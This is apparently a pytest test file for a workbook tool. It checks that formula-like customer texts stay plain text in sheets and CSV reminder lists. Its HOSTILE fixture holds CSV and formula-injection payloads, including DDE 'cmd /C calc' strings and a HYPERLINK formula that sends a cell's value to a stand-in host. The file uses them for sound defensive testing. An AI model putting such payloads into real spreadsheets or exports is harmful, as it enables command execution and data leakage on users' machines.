"""Texts of customers that look like formulas: in every sheet and list they stay texts."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from lxml import etree

from tests.workbook.command import AS_OF, duebook
from tests.workbook.corpus_checks import has_libreoffice, opens_in_libreoffice
from workbook.file_book import FileBook
from workbook.package.package_index import Package, read_package
from workbook.package.parts import children, elements
from workbook.tasks.merge_list import merge_lists
from workbook.template.new_workbook import new_workbook

HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1,"Pay")',
    '=DDE("cmd";"/C calc";"!A0")', '"=1+1"', '","=1+1', 'a";"=1+1', "a,=1+1", "a;=1+1", "a\t=1+1", "a|=1+1", "a\n=1+1",
    "a\r\n+1", "a;＝1", "</t></is><f>1+1</f>", "<![CDATA[=1+1]]>", "&equals;1", "_x003D_1+1", "{=1+1}", "=", "--", "#REF!",
)  # fmt: skip
"""Each is a customer's name, an address, a note."""
FORMULA_SIGNS = tuple("=+-@＝＋－＠")
DELIMITERS = (",", ";", "\t", "|")


@dataclass(frozen=True)
class Ledger:
    """A workbook into which the hostile texts came by import, closed, and the lists of its reminders."""

    book: Path
    lists: Path


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    folder = tmp_path_factory.mktemp("hostile")
    book, lists = folder / "book.xlsx", folder / "lists"
    new_workbook(book, language="en", currency="USD", rows={})
    customers, invoices = folder / "=customers.csv", folder / "-invoices.csv"
    _write(
        customers,
        ["customer_id", "name", "address", "contact_name", "notes", "payment_terms", "email"],
        [(f"C{at}", text, text, text, text, "NET30", f"{at}@x.test") for at, text in enumerate(HOSTILE)],
    )
    _write(
        invoices,
        ["invoice_id", "customer_id", "invoice_date", "amount", "reference"],
        [(f"={at}" if at % 2 else f"I{at}", f"C{at}", "2024-02-01", "100", text) for at, text in enumerate(HOSTILE)],
    )
    for command in (
        ("import", book, customers, "--table", "Customers"),
        ("import", book, invoices, "--table", "Invoices", "--by", "=1+1"),
        ("close", book, "--as-of", AS_OF, "--by", "@SUM(1)"),
        ("remind", book, "--as-of", AS_OF, "--out", lists, "--mark-sent"),
    ):
        result = duebook(*command)
        assert result.exit_code == 0, result.output
    return Ledger(book, lists)


def _write(path: Path, headers: Sequence[str], rows: Sequence[Sequence[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([headers, *rows])


def cells(package: Package) -> Iterator[tuple[str, etree._Element]]:
    """Every cell of every sheet, with the sheet's name."""
    for sheet, part in package.sheets.items():
        for cell in children(package.parts.xml(part), "sheetData", "row", "c"):
            yield sheet, cell


def text_of(cell: etree._Element) -> str | None:
    """The text of a cell that holds one inline."""
    texts = [*children(cell, "is", "t")]
    return texts[0].text if texts else None


def quoted_formats(package: Package) -> set[str]:
    """The numbers of the formats that keep a text a text when somebody edits it."""
    formats = children(package.parts.xml("/xl/styles.xml"), "cellXfs", "xf")
    return {str(at) for at, each in enumerate(formats) if each.get("quotePrefix") == "1"}


def test_no_sheet_has_a_formula_that_came_with_a_text(ledger: Ledger) -> None:
    package = read_package(ledger.book)
    formulas = {f"{sheet}!{cell.get('r')}": [*children(cell, "f")] for sheet, cell in cells(package)}
    texts = [each.text or "" for found in formulas.values() for each in found]
    assert [text for text in texts if re.search(r"1\+1|cmd|SUM\(1|HYPERLINK\(\"http|DDE", text)] == []


def test_every_such_text_is_marked_as_a_text_in_its_cell(ledger: Ledger) -> None:
    package = read_package(ledger.book)
    quoted = quoted_formats(package)
    found = [(sheet, cell, text_of(cell) or "") for sheet, cell in cells(package)]
    hostile = [(sheet, cell) for sheet, cell, text in found if text.lstrip().startswith(FORMULA_SIGNS)]
    assert {sheet for sheet, _ in hostile} >= {"Customers", "Invoices", "Reminders", "Reminder log", "Open items", "Credit"}
    for sheet, cell in hostile:
        where = f"{sheet}!{cell.get('r')}"
        assert cell.get("t") == "inlineStr", where
        assert cell.get("s") in quoted, where
        assert [etree.QName(each).localname for each in elements(cell)] == ["is"], where


def test_every_text_is_the_text_that_it_was(ledger: Ledger) -> None:
    customers = FileBook(ledger.book).read_table("Customers")
    assert customers is not None
    meant = [text.replace("\r\n", "\n") for text in HOSTILE]
    for header in ("Name", "Address", "Contact name", "Notes"):
        if header in customers.headers:
            found = customers.columns[customers.headers.index(header)]
            # What stands around a name is not part of it.
            assert [str(each).strip() for each in found] == [each.strip() for each in meant], header


@pytest.mark.parametrize("sheet", ["Customers", "Reminders"])
def test_openpyxl_sees_texts_too(ledger: Ledger, sheet: str) -> None:
    found = openpyxl.load_workbook(ledger.book)[sheet]
    types = {cell.data_type for row in found.iter_rows(min_row=2) for cell in row if str(cell.value).strip() in HOSTILE}
    assert types == {"s"}


@pytest.mark.skipif(not has_libreoffice(), reason="LibreOffice is not installed")
def test_libreoffice_makes_no_formula_of_them(ledger: Ledger, tmp_path: Path) -> None:
    assert opens_in_libreoffice([ledger.book], tmp_path) == {ledger.book: True}
    saved = openpyxl.load_workbook(tmp_path / "out" / "0000.xlsx")
    for name in ("Customers", "Reminders"):
        assert not any(cell.data_type == "f" for row in saved[name].iter_rows() for cell in row), name


# The lists


def test_the_workbook_of_the_list_marks_them_as_texts(ledger: Ledger) -> None:
    sheets = openpyxl.load_workbook(ledger.lists / f"reminders-{AS_OF}.xlsx").worksheets
    found = [cell for sheet in sheets for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    hostile = [cell for cell in found if cell.value.lstrip().startswith(FORMULA_SIGNS)]
    assert len(hostile) > 30
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    assert not any(cell.data_type == "f" for cell in found)


def lines_of(ledger: Ledger) -> str:
    return (ledger.lists / f"reminders-{AS_OF}.csv").read_bytes().decode("utf-8-sig")


def begins_a_formula(cell: str) -> bool:
    return cell.strip(" \"'\xa0\u3000") != "" and cell.lstrip(' "\xa0\u3000').startswith((*FORMULA_SIGNS, "\t", "\r"))


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is not None


def test_no_cell_of_the_csv_begins_like_a_formula(ledger: Ledger) -> None:
    rows = [*csv.reader(io.StringIO(lines_of(ledger), newline=""))]
    assert len(rows) == 1 + len(HOSTILE)
    assert [cell for row in rows for cell in row if begins_a_formula(cell) and not is_number(cell)] == []
    name = rows[0].index("name")
    for meant, row in zip(
        HOSTILE, sorted(rows[1:], key=lambda row: int(row[rows[0].index("customer_id")][1:])), strict=True
    ):
        # Nothing but apostrophes has come in.
        assert row[name].replace("'", "").strip() == meant.replace("\r\n", "\n").replace("'", "").strip()


@pytest.mark.parametrize("delimiter", DELIMITERS)
@pytest.mark.parametrize("knows_quotes", [True, False])
def test_nor_does_one_where_the_lines_are_split_at_another_delimiter(
    ledger: Ledger, delimiter: str, knows_quotes: bool
) -> None:
    quoting = csv.QUOTE_MINIMAL if knows_quotes else csv.QUOTE_NONE
    lines = lines_of(ledger) if knows_quotes else lines_of(ledger).replace("\r\n", "\n")
    rows = csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter, quoting=quoting)
    assert [cell for row in rows for cell in row if begins_a_formula(cell) and not is_number(cell)] == []


def neutralised(text: str) -> str:
    messages = pd.DataFrame({"message_id": [text], "items": [-1]})
    content = next(
        content for path, content in merge_lists(messages, Path("x"), as_of=AS_OF).items() if path.suffix == ".csv"
    )
    _, row = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert row[1] == "-1"
    return row[0]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1", "'=1"),
        (" =1", "' =1"),
        ("\u3000＝1", "'\u3000＝1"),
        ("\ufeff=1", "'\ufeff=1"),
        ('"=1"', '\'"=1"'),
        ("a;=1", "a;'=1"),
        ('a; "=1', "a; \"'=1"),
        ("a\n-1", "a\n'-1"),
        ("a\r\n@b", "a\r\n'@b"),
        ("a\t\t＋1", "a\t\t'＋1"),
        ("=1;=2", "'=1;'=2"),
        # What no program takes for a formula is left alone.
        ("Smith-Jones", "Smith-Jones"),
        ("a@b.test", "a@b.test"),
        ("3 + 4 = 7", "3 + 4 = 7"),
        ("Lane 3, Oslo", "Lane 3, Oslo"),
        ("2024-01-31", "2024-01-31"),
        ("'=1", "''=1"),
        ("", ""),
    ],
)
def test_an_apostrophe_stands_before_each_sign_that_could_begin_a_cell(text: str, written: str) -> None:
    assert neutralised(text) == written


def test_numbers_are_written_as_they_are() -> None:
    messages = pd.DataFrame({"message_id": ["M1"], "items": [-3], "max_days_overdue": [-2]})
    lists = merge_lists(messages, Path("x"), as_of=AS_OF)
    content = next(content for path, content in lists.items() if path.suffix == ".csv").decode("utf-8-sig")
    assert content.splitlines()[1] in ("M1,-3,-2", "M1,-2,-3")


def test_a_long_run_of_blanks_and_separators_takes_no_time() -> None:
    text = ";\n " * 10_000 + "=1"
    assert neutralised(text).endswith(" '=1")


def test_the_same_texts_through_openpyxl(ledger: Ledger, tmp_path: Path) -> None:
    copied = Path(shutil.copy(ledger.book, tmp_path / "copy.xlsx"))
    result = duebook("close", copied, "--as-of", AS_OF, "--engine", "openpyxl", "--accept-loss")
    assert result.exit_code == 0, result.output
    found = openpyxl.load_workbook(copied)["Credit"]
    hostile = [
        cell for row in found.iter_rows(min_row=2) for cell in row if str(cell.value).lstrip().startswith(FORMULA_SIGNS)
    ]
    texts = [cell for cell in hostile if isinstance(cell.value, str)]
    assert len(texts) > 10
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
